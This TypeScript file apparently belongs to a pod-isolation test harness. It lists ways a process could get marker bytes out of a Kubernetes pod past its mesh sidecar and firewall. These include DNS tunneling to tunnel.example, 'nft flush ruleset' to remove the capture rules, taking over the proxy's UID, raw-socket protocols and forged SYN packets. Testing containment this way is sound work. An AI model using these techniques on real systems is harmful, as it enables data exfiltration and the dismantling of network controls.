/** Ways in which a process could get bytes out of its pod past its sidecar, and past the firewall behind that. */
import { randomInt } from "node:crypto";
import { PROXY_UID } from "../dataplane/capture/captured-ports.ts";
import { clientHello } from "./client-hello-bytes.ts";
import type { FootholdUser } from "./foothold/foothold.ts";
import type { Order, Word } from "./foothold/orders.ts";
import { dnsQuestion, forgedSyn, overTcp } from "./packets/build-packet.ts";

/** Where it wants to get. */
export interface Outside {
  readonly host: string;
  readonly host6: string;
  /** A name that somebody may reach at that address. */
  readonly name: string;
  readonly port: number;
  /** The pod's own DNS server. */
  readonly resolver: string;
  /** The address of a pod that may leave. */
  readonly gateway: string;
}

/** One way. */
export interface WayOut {
  readonly tried: string;
  readonly user: FootholdUser;
  readonly host: string;
  /** Of TCP and UDP. */
  readonly port?: number;
  /** As the firewall names it: of what has no port to be known by. */
  readonly protocol?: string;
  /** The name that is asked for. */
  readonly name: string;
  readonly isTcp?: boolean;
  readonly isDns?: boolean;
  readonly overTcp?: boolean;
  /** Under an address that is not the pod's. */
  readonly forged?: boolean;
  /** The kernel has to give it first. */
  readonly needsRight?: boolean;
  /** To have got the right is enough to have succeeded. */
  readonly isRight?: boolean;
  /** What it wants is no further than the mesh's own network: an answer is enough, no packet has to come out. */
  readonly answerCounts?: boolean;
  /** Beside no other: it changes the pod's own rules. */
  readonly alone?: boolean;
  readonly act: (order: (order: Order) => Promise<Word>, marker: string) => Promise<Word>;
}

/** No listener is needed: a packet that came out is seen. */
const OTHER_PORT = 8443;
const DNS_PORT = 53;
const INTERNET = "1.1.1.1";
/** A packet that is dropped is answered by nothing. */
const TIMEOUT_MS = 700;
const DATAGRAM_TIMEOUT_MS = 300;
/** Of what is asked in the mesh, and answered: a busy machine takes its time. */
const ANSWER_TIMEOUT_MS = 8000;
/** Protocols that no proxy sees, by IANA's number. */
const ICMP = 1;
const PROTOCOLS = [
  { title: "ICMP", protocol: "icmp", number: ICMP },
  { title: "IP in IP", protocol: "ipencap", number: 4 },
  { title: "GRE", protocol: "gre", number: 47 },
  { title: "SCTP", protocol: "sctp", number: 132 },
] as const;
const ICMPV6 = 58;
const WITH_IP_HEADER = 255;

/** All of them: first what the application's user can try, then what the pod's root can. */
export function waysOut(to: Outside): readonly WayOut[] {
  return [...captured(to), ...rights(to), ...pastTheSidecar(to), ...withoutTcp(to), ...byRules(to)];
}

/** By the application's user: all of it comes to the sidecar. */
function captured(to: Outside): WayOut[] {
  const { host, host6, name, port, resolver } = to;
  const user = "application";
  const base = { user, name, isTcp: true } as const;
  return [
    { ...base, tried: "plaintext HTTP to the host's address", host, port: 80, act: http(host, 80) },
    { ...base, tried: "TLS to the host's address under another name", host, port, act: tls(host, port) },
    {
      ...base,
      tried: "TLS to the host's address without a name",
      host,
      port,
      act: bytes(host, port, () => clientHello("")),
    },
    { ...base, tried: "another port of the host", host, port: OTHER_PORT, act: bytes(host, OTHER_PORT) },
    { ...base, tried: "IPv6", host: host6, port, act: tls(host6, port) },
    { ...base, tried: "an address of the internet", host: INTERNET, port, act: tls(INTERNET, port) },
    ...dns("its own DNS server", { user, host: resolver, isAnswered: true }),
    ...dns("a DNS server outside", { user, host, isAnswered: true }),
    { user, name, tried: "UDP 443 (QUIC)", host, port, act: datagram(host, port) },
    { user, name, tried: "UDP 443 (QUIC) over IPv6", host: host6, port, act: datagram(host6, port) },
  ];
}

function rights({ host, name }: Outside): WayOut[] {
  const base = { user: "application", name, host, needsRight: true } as const;
  const becomeProxy = { kind: "become", uid: PROXY_UID } as const;
  const flush = { kind: "run", words: ["nft", "flush", "ruleset"] } as const;
  return [
    { ...base, tried: "becoming the proxy's user", isRight: true, act: (order) => order(becomeProxy) },
    {
      ...base,
      tried: "removing the capture rules",
      isRight: true,
      alone: true,
      act: (order) => order(flush),
    },
    { ...base, tried: "a raw socket (ICMP)", act: raw(host, ICMP) },
  ];
}

/** By the pod's root, as the proxy's user: nothing of it is captured. */
function pastTheSidecar(to: Outside): WayOut[] {
  const { host, host6, name, port, resolver } = to;
  const base = { user: "root", name, isTcp: true } as const;
  const as = PROXY_UID;
  return [
    {
      ...base,
      tried: "the proxy's own uid, an allowed name",
      host,
      port,
      act: bytes(host, port, () => clientHello(name), as),
    },
    {
      ...base,
      tried: "the proxy's own uid, another port",
      host,
      port: OTHER_PORT,
      act: bytes(host, OTHER_PORT, undefined, as),
    },
    { ...base, tried: "the proxy's own uid over IPv6", host: host6, port, act: tls(host6, port, as) },
    {
      ...base,
      tried: "the proxy's own uid, an address of the internet",
      host: INTERNET,
      port,
      act: tls(INTERNET, port, as),
    },
    ...dns("the proxy's own uid, the cluster's DNS", { user: "root", host: resolver, as, isAnswered: true }),
    ...dns("the proxy's own uid, a DNS server outside", { user: "root", host, as }),
  ];
}

/** By the pod's root: what no proxy would ever see, and what claims to be another. */
function withoutTcp({ host, host6, name, port, gateway }: Outside): WayOut[] {
  const base = { user: "root", name, needsRight: true } as const;
  const syn = (marker: string) =>
    forgedSyn({
      source: gateway,
      destination: host,
      // The kernel takes the same four for the connection of before, and what became of that.
      sourcePort: randomInt(32_768, 60_000),
      destinationPort: port,
      payload: Buffer.from(marker),
    });
  return [
    { user: "root", name, tried: "UDP 443 (QUIC)", host, port, act: datagram(host, port, PROXY_UID) },
    ...PROTOCOLS.map(({ title, protocol, number }) => ({
      ...base,
      tried: `a raw socket (${title})`,
      host,
      protocol,
      act: raw(host, number),
    })),
    { ...base, tried: "a raw socket (ICMPv6)", host: host6, protocol: "ipv6-icmp", act: raw(host6, ICMPV6) },
    {
      ...base,
      tried: "a raw socket: TCP from the gateway's address, as the proxy's uid",
      host,
      protocol: "tcp",
      forged: true,
      act: (order, marker) =>
        order({
          kind: "raw",
          host,
          protocol: WITH_IP_HEADER,
          say: syn(marker).toString("base64"),
          as: PROXY_UID,
        }),
    },
  ];
}

function byRules({ host, name, port }: Outside): WayOut[] {
  const flush = { kind: "run", words: ["nft", "flush", "ruleset"] } as const;
  const out = bytes(host, port, () => clientHello(name), undefined, TIMEOUT_MS);
  return [
    {
      user: "root",
      tried: "the capture rules removed, plain TLS to an allowed name",
      host,
      port,
      name,
      isTcp: true,
      alone: true,
      act: async (order, marker) => {
        const flushed = await order(flush);
        return flushed.connected ? await out(order, marker) : { ...flushed, lost: true };
      },
    },
  ];
}

function dns(
  whose: string,
  {
    user,
    host,
    as,
    isAnswered = false,
  }: {
    readonly user: FootholdUser;
    readonly host: string;
    readonly as?: number;
    /** In the mesh, by whoever is asked there. */
    readonly isAnswered?: boolean;
  },
): WayOut[] {
  const question = (marker: string) => dnsQuestion(`${marker}.tunnel.example`);
  const base = { user, host, port: DNS_PORT, name: "tunnel.example", isDns: true };
  const [udpMs, tcpMs] = isAnswered
    ? [ANSWER_TIMEOUT_MS, ANSWER_TIMEOUT_MS]
    : [DATAGRAM_TIMEOUT_MS, TIMEOUT_MS];
  return [
    { ...base, tried: `DNS as a tunnel: ${whose}`, act: datagram(host, DNS_PORT, as, question, udpMs) },
    {
      ...base,
      tried: `DNS as a tunnel: ${whose}, over TCP`,
      isTcp: true,
      overTcp: true,
      act: bytes(host, DNS_PORT, (marker) => overTcp(question(marker)), as, tcpMs),
    },
  ];
}

type Say = (marker: string) => Buffer | Promise<Buffer>;

export function bytes(
  host: string,
  port: number,
  say: Say = (marker) => Buffer.from(marker),
  as?: number,
  // What is captured is answered, or closed, by the sidecar.
  timeoutMs = as === undefined ? ANSWER_TIMEOUT_MS : TIMEOUT_MS,
): WayOut["act"] {
  return async (order, marker) =>
    order({
      kind: "connect",
      host,
      port,
      say: (await say(marker)).toString("base64"),
      timeoutMs,
      ...(as === undefined ? {} : { as }),
    });
}

function http(host: string, port: number): WayOut["act"] {
  return bytes(host, port, (marker) =>
    Buffer.from(`GET /${marker} HTTP/1.1\r\nhost: ${host}\r\nconnection: close\r\n\r\n`),
  );
}

/** The mark is the server's name: that much of TLS is in clear. */
function tls(host: string, port: number, as?: number): WayOut["act"] {
  return bytes(host, port, (marker) => clientHello(`${marker}.example`), as);
}

function datagram(
  host: string,
  port: number,
  as?: number,
  say: Say = (marker) => Buffer.from(marker),
  timeoutMs = DATAGRAM_TIMEOUT_MS,
): WayOut["act"] {
  return async (order, marker) =>
    order({
      kind: "datagram",
      host,
      port,
      say: (await say(marker)).toString("base64"),
      timeoutMs,
      ...(as === undefined ? {} : { as }),
    });
}

export function raw(host: string, protocol: number): WayOut["act"] {
  return (order, marker) =>
    order({ kind: "raw", host, protocol, say: Buffer.from(`--------${marker}`).toString("base64") });
}
